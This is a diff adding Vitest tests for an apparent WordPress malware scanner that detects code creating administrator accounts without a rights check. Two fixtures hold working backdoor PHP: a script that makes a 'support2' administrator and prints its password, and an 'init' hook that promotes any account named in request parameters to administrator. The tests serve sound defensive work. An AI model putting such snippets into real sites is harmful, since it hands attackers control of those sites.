@@ -5,6 +5,7 @@
  */
 import { describe, expect, it } from 'vitest';
 import {
+  addsAdministratorUnasked,
   addsFixedAdministrator,
   hidesPluginFromList,
   hidesUserFromList,
@@ -88,6 +89,51 @@ update_user_meta($id, 'wp_capabilities', array('administrator' => true));
 `;
     expect(addsFixedAdministrator(installer)).toBe(false);
     expect(addsFixedAdministrator(form)).toBe(false);
+  });
+
+  it('ranks a page making a named or requested account an administrator, asking no rights, critical', () => {
+    const script = `<?php
+require_once('wp-load.php');
+$username = 'support2';
+$password = wp_generate_password(16);
+if (username_exists($username)) die('exists');
+$user_id = wp_create_user($username, $password, 'support2@example.net');
+$user = new WP_User($user_id);
+$user->set_role('administrator');
+echo "Username: $username Password: $password";
+`;
+    expect(topFinding('/var/www/html/make-admin.php', script)).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringMatching(
+        /makes an account it or the visitor names a WordPress administrator/,
+      ),
+    });
+    const hook = `<?php
+function work_2() {
+  $u = @$_REQUEST['__u'];
+  $p = @$_REQUEST['__p'];
+  if (!isset($u) || username_exists($u)) return;
+  $id = wp_create_user($u, $p, 'someone@example.net');
+  if (!is_wp_error($id)) get_user_by('id', $id)->set_role('administrator');
+}
+add_action('init', 'work_2');
+`;
+    expect(addsAdministratorUnasked(hook)).toBe(true);
+  });
+
+  it('leaves an admin screen that checks rights, and a sign-up making subscribers', () => {
+    const screen = `<?php
+if (!current_user_can('create_users')) wp_die('no');
+check_admin_referer('add-user');
+$id = wp_create_user($_POST['user_login'], $_POST['pass1'], $_POST['email']);
+(new WP_User($id))->set_role('administrator');
+`;
+    const signup = `<?php
+$id = wp_create_user($_POST['login'], $_POST['pass'], $_POST['email']);
+(new WP_User($id))->set_role('subscriber');
+`;
+    expect(addsAdministratorUnasked(screen)).toBe(false);
+    expect(addsAdministratorUnasked(signup)).toBe(false);
   });
 
   it('ranks a page logging its visitor in as an administrator without a password critical', () => {
